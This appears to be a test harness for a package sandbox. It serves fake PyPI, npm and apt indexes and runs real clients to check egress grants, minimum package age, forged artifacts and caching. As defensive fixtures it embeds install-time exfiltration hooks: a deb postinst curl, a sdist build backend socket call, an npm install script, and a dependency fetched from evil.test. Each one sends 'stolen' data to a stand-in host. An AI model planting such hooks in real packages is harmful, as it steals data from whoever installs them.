"""What `test_package_clients.py` runs in a network and mount namespace of its own: indexes, a node, cells with real clients.

``python package_cells.py DIRECTORY`` prints one JSON object.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pip

import vallum
from vallum.testing.certificates import PrivateAuthority
from vallum.testing.fakes.packages import PackageIndex, make_deb, make_npm, make_sdist, make_wheel, serve_index

DAY_S = 86400.0
GRANT = '\n[[allow]]\nid = "{name}"\nhost = "{name}.test"\nports = [80, 443]\nservice = "packages"\nphase = "setup"\n'
RULES = "".join(GRANT.format(name=name) for name in ("pypi", "files", "npm", "apt"))
SITE = Path(pip.__file__).parents[1]
UV = Path(sys.executable).with_name("uv")
POSTINST = "curl -sS -m 3 -d stolen http://198.51.100.7:443/ || true"
PIP = (
    "PIP_RESUME_RETRIES=0 PYTHONPATH=/opt/site PIP_DISABLE_PIP_VERSION_CHECK=1 PIP_RETRIES=0 PIP_NO_CACHE_DIR=1 "
    "PIP_BREAK_SYSTEM_PACKAGES=1 python3 -m pip"
)
INDEX = "--index-url https://pypi.test/simple/"
NPM = "cd /tmp && npm --registry https://npm.test/ --no-audit --no-fund --no-update-notifier --fetch-retries=0 --cache /tmp/npm-cache"
BACKEND = """
import base64, pathlib, socket
try:
    socket.create_connection(("198.51.100.7", 443), 3).sendall(b"stolen")
except OSError as error:
    print("no way out:", error)
def build_wheel(directory, *rest):
    pathlib.Path(directory, "builds-1.0-py3-none-any.whl").write_bytes(base64.b64decode("{wheel}"))
    return "builds-1.0-py3-none-any.whl"
"""
"""A build backend that a source distribution brings along: it runs when pip builds it."""
NODE_OUT = "node -e \"require('net').connect(443, '198.51.100.7').on('error', e => process.exit(0))\""
APT = (
    "rm -rf /tmp/apt /tmp/root && mkdir -p /tmp/apt/lists/partial /tmp/apt/cache/archives/partial /tmp/apt/etc/apt.conf.d "
    "/tmp/apt/etc/preferences.d /tmp/root/var/lib/dpkg/updates /tmp/root/var/lib/dpkg/info /tmp/root/var/lib/dpkg/triggers && "
    "cd /tmp/apt && : > /tmp/root/var/lib/dpkg/status && "
    "echo 'deb [trusted=yes] http://apt.test/debian stable main' > etc/sources.list && "
    "export PATH=/usr/sbin:/sbin:/usr/bin:/bin DEBIAN_FRONTEND=noninteractive && "
    "O='-o Dir::Etc=/tmp/apt/etc -o Dir::State=/tmp/apt -o Dir::State::status=/tmp/root/var/lib/dpkg/status "
    "-o Dir::Cache=/tmp/apt/cache -o Dir::Log=/tmp/apt -o APT::Architecture=amd64 -o APT::Sandbox::User= -o Acquire::Retries=0 "
    "-o Acquire::Languages=none -o DPkg::Options::=--root=/tmp/root -o DPkg::Options::=--force-script-chrootless' && "
    "apt-get $O update && apt-get $O -y install {name}"
)
"""apt with a package database of its own: the host's tree has none."""


class World:
    """The indexes, what they have, and what was said."""

    def __init__(self, directory: Path) -> None:
        self.directory = directory
        self.authority = PrivateAuthority()
        self.index = PackageIndex("https://files.test")
        self.said: dict[str, dict] = {}
        self.events: dict[str, list[dict]] = {}
        self.wheels = {
            ("granted", "1.0"): make_wheel("granted", "1.0", requires=("dependency",)),
            ("dependency", "2.0"): make_wheel("dependency", "2.0"),
            ("aged", "1.0"): make_wheel("aged", "1.0"),
            ("aged", "2.0"): make_wheel("aged", "2.0"),
            ("newborn", "1.0"): make_wheel("newborn", "1.0"),
            ("kept", "1.0"): make_wheel("kept", "1.0", source="kept = 1\n" + f"# {os.urandom(3_000_000).hex()}\n"),
            ("forged", "1.0"): make_wheel("forged", "1.0"),
            ("forgedlarge", "1.0"): make_wheel("forgedlarge", "1.0", source=f"# {os.urandom(1_000_000).hex()}\n"),
        }
        young = {("aged", "2.0"), ("newborn", "1.0")}
        for (name, version), content in self.wheels.items():
            self.index.add_python(
                f"{name}-{version}-py3-none-any.whl", content, age_s=DAY_S if (name, version) in young else 30 * DAY_S
            )
        backend = BACKEND.replace("{wheel}", base64.b64encode(make_wheel("builds", "1.0")).decode())
        self.index.add_python("builds-1.0.tar.gz", make_sdist("builds", "1.0", backend))
        elsewhere = make_wheel("elsewhere", "1.0", requires=("thief @ https://evil.test/thief-1.0-py3-none-any.whl",))
        self.index.add_python("elsewhere-1.0-py3-none-any.whl", elsewhere)
        self.index.add_npm("left", "1.0.0", make_npm("left", "1.0.0"), age_s=30 * DAY_S)
        self.index.add_npm("left", "1.1.0", make_npm("left", "1.1.0"), age_s=DAY_S)
        scripts = {"install": NODE_OUT}
        self.index.add_npm(
            "@team/scripted", "1.0.0", make_npm("@team/scripted", "1.0.0", scripts=scripts), scripts=scripts
        )
        self.index.add_npm("forged", "1.0.0", make_npm("forged", "1.0.0"))
        self.index.served["/forged/-/forged-1.0.0.tgz"] = make_npm("forged", "6.6.6")
        for name in ("forged", "forgedlarge"):
            bad = make_wheel(
                name, "1.0", source="stolen = True\n" + f"# {os.urandom(1_000_000).hex()}\n" * (name != "forged")
            )
            self.index.served[f"/files/{name}-1.0-py3-none-any.whl"] = bad
        self.index.add_deb(
            "tool", "1:2.0", make_deb("tool", "1:2.0", {"/opt/tool": "#!/bin/sh\necho tool\n"}, postinst=POSTINST)
        )
        self.index.add_deb("broken", "1.0", make_deb("broken", "1.0", {"/opt/broken": "x"}))
        self.index.served["/debian/pool/main/broken_1.0_all.deb"] = b"!<arch>\nnot what was promised"
        self.thief = make_wheel("thief", "1.0")
        self.stolen = PackageIndex("")

    async def start(self) -> None:
        for number, name in enumerate(("pypi", "files", "npm", "apt")):
            ip, context = f"192.0.2.{20 + number}", self.authority.serve(f"{name}.test")
            await serve_index(self.index, f"{name}.test", (ip, 443), context)
            await serve_index(self.index, f"{name}.test", (ip, 80))
        await serve_index(self.stolen, "evil.test", ("192.0.2.24", 443), self.authority.serve("evil.test"))
        await serve_index(self.stolen, "198.51.100.7", ("198.51.100.7", 443))
        (self.directory / "upstream.pem").write_bytes(self.authority.certificate_pem)
        (self.directory / "rules.toml").write_text(RULES)

    async def sh(self, sandbox: vallum.Sandbox, name: str, line: str) -> None:
        done = await sandbox.exec(["sh", "-c", line], timeout_s=60)
        out = (done.stdout + done.stderr).decode("utf-8", "replace")
        self.said[name] = {"code": done.exit_code, "out": out, "step": done.step}

    def seen(self, path: str) -> int:
        return sum(target.partition("?")[0] == path for _, target, _ in self.index.requests)


async def use_clients(world: World, sb: vallum.Sandbox) -> None:
    sh = world.sh
    await sh(
        sb,
        "pip",
        f"{PIP} install {INDEX} --target /tmp/pip granted && PYTHONPATH=/tmp/pip python3 -c 'import granted, dependency'",
    )
    await sh(
        sb,
        "uv",
        f"/opt/bin/uv pip install {INDEX} --cache-dir /tmp/uv-cache --target /tmp/uv granted && ls /tmp/uv/granted.py",
    )
    await sh(sb, "npm", f"{NPM} install --prefix /tmp/node left && node -p \"require('/tmp/node/node_modules/left')\"")
    await sh(sb, "npm-script", f"{NPM} install --prefix /tmp/node2 --foreground-scripts @team/scripted")
    await sh(
        sb,
        "apt",
        APT.format(name="tool") + " && sh /tmp/root/opt/tool",
    )
    await sh(sb, "sdist", f"{PIP} install -v {INDEX} --target /tmp/sdist --no-build-isolation builds")
    await sh(sb, "pip-html", "curl -sS -H 'Accept: text/html' https://pypi.test/simple/granted/")
    await sh(sb, "ungranted-index", f"{PIP} install --index-url https://evil.test/simple/ --target /tmp/x granted")
    await sh(sb, "ungranted-dependency", f"{PIP} install {INDEX} --target /tmp/x elsewhere")
    await sh(sb, "pip-forged", f"{PIP} install {INDEX} --target /tmp/x forged")
    await sh(sb, "large-forged", f"{PIP} install {INDEX} --target /tmp/x forgedlarge")
    await sh(
        sb,
        "curl-forged",
        "curl -sS -o /tmp/f -w '%{http_code}' https://files.test/files/forged-1.0-py3-none-any.whl; cat /tmp/f",
    )
    await sh(sb, "npm-forged", f"{NPM} install --prefix /tmp/node3 forged")
    await sh(sb, "apt-forged", APT.format(name="broken"))


async def use_cache(world: World, sb: vallum.Sandbox, other: vallum.Sandbox) -> None:
    url = "https://files.test/files/kept-1.0-py3-none-any.whl"
    path = "/files/kept-1.0-py3-none-any.whl"
    await world.sh(sb, "index", "curl -sS https://pypi.test/simple/kept/ -o /dev/null -H 'Accept: text/html'")
    await world.sh(sb, "own-key", f"curl -sS -H 'Authorization: Bearer mine' {url} | sha256sum")
    await world.sh(sb, "cut", f"curl -sS --limit-rate 20k --max-time 1 -o /dev/null {url}")
    await world.sh(sb, "part", f"curl -sS -r 0-9 -w ' %{{http_code}}' -o /tmp/part {url} && sha256sum < /tmp/part")
    before = world.seen(path)
    world.index.served[path] = make_wheel("kept", "1.0", source="poisoned = True\n")
    await world.sh(sb, "again", f"curl -sS {url} | sha256sum")
    await world.sh(other, "unasked", f"curl -sS -o /tmp/u -w '%{{http_code}}' {url}; sha256sum < /tmp/u")
    await world.sh(other, "index2", "curl -sS https://pypi.test/simple/kept/ -o /dev/null -H 'Accept: text/html'")
    await world.sh(other, "other", f"curl -sS {url} | sha256sum")
    await world.sh(other, "other-key", f"curl -sS -H 'Authorization: Bearer mine' {url}")
    world.said["hits"] = {"before": before, "after": world.seen(path)}
    cache = Path(os.environ["VALLUM_HOME"], "packages")
    world.said["files"] = {
        "mode": cache.stat().st_mode & 0o777,
        "uid": cache.stat().st_uid,
        "names": [file.name for file in cache.iterdir()],
        "digests": [hashlib.sha256(file.read_bytes()).hexdigest() for file in cache.iterdir()],
    }
    await world.sh(
        sb, "guest-finds", f"ls -la {cache}; echo x > {cache}/y; find / -xdev -name '{next(cache.iterdir()).name}'"
    )


async def wait_for_age(world: World, sb: vallum.Sandbox) -> None:
    sh = world.sh
    young = "https://files.test/files/aged-2.0-py3-none-any.whl"
    await sh(sb, "young-unasked", f"curl -sS {young}")
    await sh(sb, "young-pip", f"{PIP} install {INDEX} --target /tmp/aged aged")
    await sh(sb, "young-pinned", f"{PIP} install {INDEX} --target /tmp/x aged==2.0")
    await sh(sb, "young-all", f"{PIP} install {INDEX} --target /tmp/x newborn")
    await sh(sb, "young-uv", f"/opt/bin/uv pip install {INDEX} --cache-dir /tmp/uv-cache --target /tmp/uv2 aged")
    await sh(sb, "young-html", "curl -sS -H 'Accept: text/html' https://pypi.test/simple/aged/")
    await sh(sb, "young-file", f"curl -sS {young}")
    await sh(sb, "young-npm", f"{NPM} install --prefix /tmp/n left && node -p \"require('/tmp/n/node_modules/left')\"")
    await sh(sb, "young-tarball", "curl -sS https://npm.test/left/-/left-1.1.0.tgz")


async def main(directory: Path) -> dict:
    world = World(directory)
    await world.start()
    (directory / "bin").mkdir()
    shutil.copy(UV, directory / "bin")
    common = {
        "rules": directory / "rules.toml", "upstream_ca": directory / "upstream.pem", "phase": "setup",
        "environ": {"UV_HTTP_RETRIES": "0"},
        "mounts": [f"{SITE}:/opt/site:ro", f"{directory}/bin:/opt/bin:ro"], "root": "owner", "user": "root",
    }  # fmt: skip
    async with vallum.Node() as node:
        async with node.sandbox(**common) as sb, node.sandbox(**common) as other:
            await use_clients(world, sb)
            world.events["clients"] = await node.events(run=sb.run, episode=sb.episode)
            await use_cache(world, sb, other)
            await sb.set_phase("run")
            await world.sh(sb, "run-pip", f"{PIP} install {INDEX} --target /tmp/late granted")
            await world.sh(sb, "run-npm", f"{NPM} --cache /tmp/npm-late install --prefix /tmp/late left")
            await world.sh(sb, "run-uv", f"/opt/bin/uv pip install {INDEX} --no-cache --target /tmp/late granted")
            await world.sh(sb, "run-apt", APT.format(name="tool"))
            run = sb.run
            world.events["other"] = await node.events(run=other.run, episode=other.episode)
        async with node.sandbox(**common, package_min_age_s=7 * DAY_S) as sb:
            before = len(world.index.requests)
            await wait_for_age(world, sb)
            asked = [target for _, target, _ in world.index.requests[before:]]
            world.events["age"] = await node.events(run=sb.run, episode=sb.episode)
        contained = await asyncio.to_thread(
            subprocess.run,
            [
                *(sys.executable, "-m", "vallum", "run", "--rules", str(directory / "rules.toml"), "--package-min-age", "7"),
                *("--mount", f"{SITE}:/opt/site:ro", "--setup", f"{PIP} install {INDEX} --target /tmp/aged aged"),
                *("--", "sh", "-c", f"PYTHONPATH=/tmp/aged python3 -c 'import aged; print(aged.version)'; {PIP} download {INDEX} granted"),
            ],
            env={**os.environ, "VALLUM_UPSTREAM_CA": str(directory / "upstream.pem")},
            capture_output=True, text=True, timeout=60,
        )  # fmt: skip
        world.said["cli"] = {"code": contained.returncode, "out": contained.stdout + contained.stderr}
        shown = await asyncio.to_thread(
            subprocess.run, [sys.executable, "-m", "vallum", "show", run], capture_output=True, text=True, timeout=30
        )
        report = directory / "report.html"
        await asyncio.to_thread(
            subprocess.run,
            [sys.executable, "-m", "vallum", "report", run, "-o", str(report)],
            capture_output=True,
            timeout=30,
        )
    return {
        "said": world.said,
        "events": {name: [e for e in found if e["kind"] != "proc.start"] for name, found in world.events.items()},
        "stolen": world.stolen.requests,
        "digests": {f"{n}-{v}": hashlib.sha256(content).hexdigest() for (n, v), content in world.wheels.items()},
        "young_fetched": [t for t in asked if "aged-2.0" in t or "newborn-1.0" in t or "left-1.1.0" in t],
        "show": shown.stdout + shown.stderr,
        "report": report.read_text() if report.exists() else "",
    }


if __name__ == "__main__":
    print(json.dumps(asyncio.run(main(Path(sys.argv[1])))))
